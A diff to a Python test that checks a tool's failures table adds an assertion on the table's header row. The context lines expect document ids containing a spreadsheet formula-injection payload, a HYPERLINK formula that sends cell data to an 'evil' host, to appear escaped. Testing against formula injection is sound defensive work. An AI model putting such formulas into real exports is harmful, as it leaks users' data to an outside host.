@@ -27,6 +27,7 @@ def test_the_table_of_failures_holds_no_formula_and_the_lines_for_machines_hold_
     source = write_corpus({"id": key, "text": " "} for key in ids)
     embedded("run", "translate", source, "--model", "null")
     table: list[list[Any]] = [line.split("\t") for line in embedded("failures", 1).stdout.splitlines()]
+    assert table.pop(0) == ["document", "status", "class", "reason"]
     assert [row[0] for row in table] == [
         '\'=HYPERLINK("http://evil/?"&A1)',
         "'-1+1",
